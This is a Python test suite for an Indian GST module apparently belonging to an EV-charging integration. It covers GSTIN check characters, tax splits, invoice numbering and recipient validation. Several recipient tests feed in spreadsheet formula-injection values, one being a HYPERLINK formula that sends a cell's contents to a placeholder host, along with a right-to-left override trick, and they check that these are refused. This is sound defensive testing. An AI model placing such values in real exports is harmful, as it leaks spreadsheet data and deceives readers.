"""India's GST rules of the documents (``tax``): GSTINs, the tax in a price, years, numbers."""

from __future__ import annotations

from datetime import datetime
from fractions import Fraction

import pytest
from hypothesis import given
from hypothesis import strategies as st

from custom_components.qr_charging.tax import (
    IST,
    NUMBER_MAX,
    RATES,
    DocumentKind,
    TaxError,
    check_character,
    credit_split,
    document_number,
    financial_year,
    parse_gstin,
    parse_rate,
    parse_recipient,
    parse_settings,
    rate_text,
    settings_of,
    split,
)
from tests.integration.tax_helpers import OWNER_GSTIN, tax_options

RATES_BP = [parse_rate("rate", rate) for rate in RATES]
# GSTINs published by their holders (GSTN's own among them): the check character is GSTN's.
PUBLISHED = ["27AAPFU0939F1ZV", "33GSPTN0741G1ZF", "07AAACR5055K1Z9"]


@pytest.mark.parametrize("gstin", [*PUBLISHED, OWNER_GSTIN])
def test_a_valid_gstin_is_read(gstin: str) -> None:
    assert parse_gstin("gstin", gstin) == gstin


def test_lower_case_and_spaces_are_read_as_typed_on_a_phone() -> None:
    assert parse_gstin("gstin", " 27aapfu0939f1zv ") == "27AAPFU0939F1ZV"
    assert parse_gstin("gstin", "27 AAPFU 0939 F1ZV") == "27AAPFU0939F1ZV"


@pytest.mark.parametrize("gstin", PUBLISHED)
def test_any_one_character_off_fails_the_check(gstin: str) -> None:
    """Every single-character change that keeps the format is caught by the check character."""
    alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"
    for index in range(15):
        for char in alphabet:
            if char == gstin[index]:
                continue
            typed = gstin[:index] + char + gstin[index + 1 :]
            with pytest.raises(TaxError) as err:
                parse_gstin("gstin", typed)
            assert err.value.field == "gstin"
            assert err.value.key in {"gstin_format", "gstin_check"}
            if index == 14:
                assert err.value.key == "gstin_check"


@pytest.mark.parametrize(
    "typed",
    [
        "",
        "27AAPFU0939F1Z",  # 14 characters
        "27AAPFU0939F1ZVV",  # 16
        "27AAPFU0939F1ZV0",
        "00AAPFU0939F1ZV",  # no such state
        "27AAPFU0939F0ZV",  # entity number 0
        "27AAPFU0939F1ZV\u200b",  # a zero-width space
        "\uff12\uff17AAPFU0939F1ZV",  # full-width digits
        "27AAPFU0939F1Z-",
    ],
)
def test_a_gstin_of_the_wrong_shape_is_a_format_error(typed: str) -> None:
    with pytest.raises(TaxError) as err:
        parse_gstin("gstin", typed)
    assert (err.value.field, err.value.key) == ("gstin", "gstin_format")


def test_the_check_character_is_gstns_base_36_luhn() -> None:
    assert [check_character(g[:14]) for g in PUBLISHED] == [g[14] for g in PUBLISHED]


def test_a_recipients_name_and_address_are_one_printable_line_within_limits() -> None:
    recipient = parse_recipient("27aapfu0939f1zv", "  Acme \n Fleet ", "1 MG Road,\tPune")
    assert (recipient.gstin, recipient.name, recipient.address, recipient.state) == (
        "27AAPFU0939F1ZV",
        "Acme Fleet",
        "1 MG Road, Pune",
        "27",
    )
    for args, field, key in [
        (("27AAPFU0939F1ZV", " ", "Pune"), "name", "required"),
        (("27AAPFU0939F1ZV", "x" * 101, "Pune"), "name", "too_long"),
        (("27AAPFU0939F1ZV", "Acme\u202egnp.", "Pune"), "name", "not_printable"),
        (("27AAPFU0939F1ZV", "Acme", "y" * 201), "address", "too_long"),
        (("27AAPFU0939F1ZW", "Acme", "Pune"), "gstin", "gstin_check"),
    ]:
        with pytest.raises(TaxError) as err:
            parse_recipient(*args)
        assert (err.value.field, err.value.key) == (field, key)


def test_the_recipients_address_is_required_with_the_gstin() -> None:
    """Rule 46(d): a tax invoice to a registered person carries their address."""
    for address in ("", " \t "):
        with pytest.raises(TaxError) as err:
            parse_recipient("27AAPFU0939F1ZV", "Acme Fleet", address)
        assert (err.value.field, err.value.key) == ("address", "required")


@pytest.mark.parametrize("name", ["\u200d", "\u200c\u200d\u200c", "\u0301\u0301", ". - ."])
def test_a_name_without_a_letter_or_digit_names_no_one(name: str) -> None:
    """Joiners or marks only print as nothing: Rule 46(d) asks for the recipient's name."""
    with pytest.raises(TaxError) as err:
        parse_recipient("27AAPFU0939F1ZV", name, "Pune")
    assert (err.value.field, err.value.key) == ("name", "required")
    with pytest.raises(TaxError) as err:
        parse_recipient("27AAPFU0939F1ZV", "Acme", name)
    assert (err.value.field, err.value.key) == ("address", "required")


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://x.example/?"&A1,"Acme")',
        "+91 Acme",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\u200d=1+1",  # a joiner (allowed for Devanagari) hides nothing
    ],
)
def test_a_value_a_spreadsheet_would_run_as_a_formula_is_refused(typed: str) -> None:
    """The export's CSV files carry the name and address to the owner's spreadsheet."""
    for args, field in (((typed, "Pune"), "name"), (("Acme", typed), "address")):
        with pytest.raises(TaxError) as err:
            parse_recipient("27AAPFU0939F1ZV", *args)
        assert (err.value.field, err.value.key) == (field, "not_printable")
    assert parse_recipient("27AAPFU0939F1ZV", "Acme = Fleet", "Pune-1").name == "Acme = Fleet"


def test_the_owners_own_name_may_start_with_a_mark_it_never_reaches_the_csv() -> None:
    """Only the customer's name and address go to the export's CSV files: an owner's stored
    "@Home EV Charging" keeps the owner registered with their prefix."""
    options = {"tax": {**tax_options(prefix="ABC"), "legal_name": "@Home EV Charging"}}
    settings = settings_of(options)
    assert (settings.registered, settings.prefix) == (True, "ABC")


def test_a_devanagari_name_keeps_its_joiners() -> None:
    # "क्‍ष" with a zero-width joiner: Devanagari spelling needs it, it is not a hidden trick.
    name = "\u0915\u094d\u200d\u0937 \u0935\u093e\u0939\u0928"
    assert parse_recipient("27AAPFU0939F1ZV", name, "Pune").name == name


def _exact_taxable(total: int, rate_bp: int) -> Fraction:
    return Fraction(total * 10_000, 10_000 + rate_bp)


def _check_split(total: int, rate_bp: int) -> None:
    """The stated rounding: taxable to the nearest paisa (half up), the tax the rest."""
    exact = _exact_taxable(total, rate_bp)
    for inter_state in (False, True):
        got = split(total, rate_bp, inter_state)
        assert got.total == total
        assert got.taxable + got.tax == total
        assert got.taxable + got.cgst + got.sgst + got.igst == total
        assert min(got.taxable, got.cgst, got.sgst, got.igst) >= 0
        # Nearest paisa, a half paisa up.
        assert -Fraction(1, 2) < got.taxable - exact <= Fraction(1, 2)
        # So the tax is within half a paisa of the exact tax in the price, and within half a
        # paisa plus the rate's share of that half of the rate applied to the taxable value.
        assert abs(got.tax - (total - exact)) <= Fraction(1, 2)
        bound = Fraction(1, 2) + Fraction(rate_bp, 2 * 10_000)
        assert abs(got.tax - got.taxable * Fraction(rate_bp, 10_000)) <= bound
        if inter_state:
            assert (got.cgst, got.sgst) == (0, 0)
        else:
            assert got.igst == 0
            assert 0 <= got.sgst - got.cgst <= 1


@pytest.mark.parametrize("rate_bp", RATES_BP)
def test_the_split_of_every_whole_rupee_from_1_to_10000_is_to_the_paisa(rate_bp: int) -> None:
    for rupees in range(1, 10_001):
        _check_split(rupees * 100, rate_bp)


@given(st.integers(100, 1_000_000), st.sampled_from(RATES_BP))
def test_the_split_of_any_amount_from_1_to_10000_rupees_is_to_the_paisa(
    total: int, rate_bp: int
) -> None:
    _check_split(total, rate_bp)


def test_a_split_at_18_percent_within_and_between_states() -> None:
    # ₹20 at 18 %: 2000 / 1.18 = 1694.92 → 1695 taxable, 305 tax.
    assert split(2000, 1800, inter_state=False) == split(2000, 1800, False)
    within = split(2000, 1800, inter_state=False)
    between = split(2000, 1800, inter_state=True)
    assert (within.taxable, within.cgst, within.sgst, within.igst) == (1695, 152, 153, 0)
    assert (between.taxable, between.cgst, between.sgst, between.igst) == (1695, 0, 0, 305)
    assert split(100, 0, inter_state=False) == split(100, 0, True)
    assert split(100, 0, inter_state=False).tax == 0


@given(
    st.integers(100, 1_000_000),
    st.sampled_from(RATES_BP),
    st.booleans(),
    st.lists(st.integers(1, 1_000_000), max_size=6),
)
def test_credits_taken_in_parts_add_up_to_the_invoices_split(
    total: int, rate_bp: int, inter_state: bool, parts: list[int]
) -> None:
    credited = 0
    sums = [0, 0, 0, 0]
    for part in [*parts, total]:
        amount = min(part, total - credited)
        if amount <= 0:
            break
        credit = credit_split(credited, amount, rate_bp, inter_state)
        assert credit.total == amount
        assert credit.taxable + credit.tax == amount
        assert min(credit.taxable, credit.cgst, credit.sgst, credit.igst) >= 0
        credited += amount
        for index, value in enumerate((credit.taxable, credit.cgst, credit.sgst, credit.igst)):
            sums[index] += value
    whole = split(total, rate_bp, inter_state)
    assert credited == total
    assert sums == [whole.taxable, whole.cgst, whole.sgst, whole.igst]


def _ist(*args: int) -> float:
    return datetime(*args, tzinfo=IST).timestamp()  # type: ignore[misc]


def test_the_financial_year_turns_at_midnight_of_31_march_in_india() -> None:
    assert financial_year(_ist(2027, 3, 31, 23, 59, 59)) == "2627"
    assert financial_year(_ist(2027, 4, 1, 0, 0, 0)) == "2728"
    # 1 April 00:00 IST is still 31 March in UTC (18:30): India's date counts.
    assert financial_year(_ist(2027, 4, 1, 0, 0, 0) - 1) == "2627"
    assert financial_year(_ist(2026, 4, 1)) == "2627"
    assert financial_year(_ist(2099, 4, 1)) == "9900"
    assert financial_year(_ist(2100, 1, 1)) == "9900"


def test_numbers_of_tax_documents_stay_within_16_characters() -> None:
    """A 4-character prefix leaves 999,999 invoices and 99,999 credit notes a year."""
    assert document_number("INV", DocumentKind.INVOICE, "2627", 123) == "INV/2627/123"
    assert document_number("INV", DocumentKind.CREDIT_NOTE, "2627", 7) == "INV/2627/C7"
    last_invoice = document_number("ABCD", DocumentKind.INVOICE, "2627", 999_999)
    last_credit = document_number("ABCD", DocumentKind.CREDIT_NOTE, "2627", 99_999)
    assert last_invoice == "ABCD/2627/999999"
    assert len(last_invoice) == len(last_credit) == NUMBER_MAX
    for kind, serial in [(DocumentKind.INVOICE, 1_000_000), (DocumentKind.CREDIT_NOTE, 100_000)]:
        with pytest.raises(ValueError, match="longer than 16"):
            document_number("ABCD", kind, "2627", serial)


def test_receipts_are_not_held_to_the_invoices_16_characters() -> None:
    """Rule 46's limit is a tax invoice's: a busy owner without a GSTIN issues more than 99,999
    receipts a year, and a receipt's number must never stop a payment being stored."""
    assert document_number("ABCD", DocumentKind.RECEIPT, "2627", 100_000) == "ABCD/2627/R100000"
    assert document_number("ABCD", DocumentKind.REFUND_NOTE, "2627", 100_000).endswith("F100000")


def test_rates_are_read_and_printed_as_offered() -> None:
    assert [rate_text(parse_rate("rate", r)) for r in RATES] == list(RATES)
    assert parse_rate("rate", "0.25") == 25
    with pytest.raises(TaxError) as err:
        parse_rate("rate", "17")
    assert (err.value.field, err.value.key) == ("rate", "rate_unknown")


def test_the_settings_hold_what_the_owner_confirmed() -> None:
    settings = parse_settings(tax_options(prefix="abcd"))
    assert (settings.gstin, settings.rate_bp, settings.prefix, settings.state) == (
        OWNER_GSTIN,
        1800,
        "ABCD",
        "29",
    )
    for change, field, key in [
        ({"confirmed": False}, "confirmed", "not_confirmed"),
        ({"state": "27"}, "state", "state_not_gstin"),
        ({"sac": "1234"}, "sac", "sac_invalid"),
        ({"rate": ""}, "rate", "rate_unknown"),
        ({"prefix": "ABCDE"}, "prefix", "prefix_invalid"),
        ({"prefix": "A/B"}, "prefix", "prefix_invalid"),
        ({"legal_name": ""}, "legal_name", "required"),
        ({"address": " "}, "address", "address_required"),
        ({"address": "x" * 201}, "address", "address_too_long"),
    ]:
        with pytest.raises(TaxError) as err:
            parse_settings(tax_options() | change)
        assert (err.value.field, err.value.key) == (field, key)
    receipts = parse_settings({"legal_name": "Corner shop", "gstin": " ", "prefix": ""})
    assert (receipts.registered, receipts.prefix, receipts.legal_name) == (
        False,
        "INV",
        "Corner shop",
    )
